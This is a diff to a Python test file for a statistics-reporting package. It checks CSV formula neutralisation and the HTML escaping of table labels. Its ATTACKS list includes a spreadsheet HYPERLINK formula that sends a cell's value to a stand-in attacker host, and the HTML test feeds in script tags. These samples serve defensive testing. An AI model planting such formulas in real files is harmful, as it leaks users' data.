@@ -13,7 +13,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from tkicohort.io import neutralise_formula, read_csv, write_bytes, write_csv, write_text
-from tkicohort.stats.render import markdown_text, present, to_html, to_markdown
+from tkicohort.stats.render import markdown_text, printed, to_html, to_markdown
 
 ATTACKS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
@@ -95,12 +95,12 @@ def test_markdown_keeps_ordinary_journal_text_readable():
 
 
 def test_html_tables_escape_labels():
-    table = pd.DataFrame({"variable": ["sex"], "label": ["<script>x</script>"], "level": ["F"],
-                          "level_label": ["<b>F</b>"], "arm": ["all"], "n": [1], "pct": [100.0], "mean": [np.nan],
-                          "sd": [np.nan], "median": [np.nan], "min": [np.nan], "max": [np.nan], "test": [None],
-                          "p": [np.nan]})
-    page = to_html(present("baseline", table), "Baseline <i>")
+    table = pd.DataFrame({"variable": ["sex", "sex"], "label": ["<script>x</script>"] * 2, "level": ["F", "M"],
+                          "level_label": ["<b>F</b>", "M"], "arm": ["all"] * 2, "n": [1, 0], "denominator": [1, 1],
+                          "pct": [100.0, 0.0], "missing": [0, 0], "test": [None] * 2, "p": [np.nan] * 2})
+    page = to_html(printed("baseline", table, "Baseline <i>"))
     assert "<script>" not in page and "<b>F</b>" not in page and "Baseline <i>" not in page
+    assert "&lt;script&gt;x&lt;/script&gt;" in page and "&lt;b&gt;F&lt;/b&gt;" in page
 
 
 @pytest.mark.parametrize("writer", [
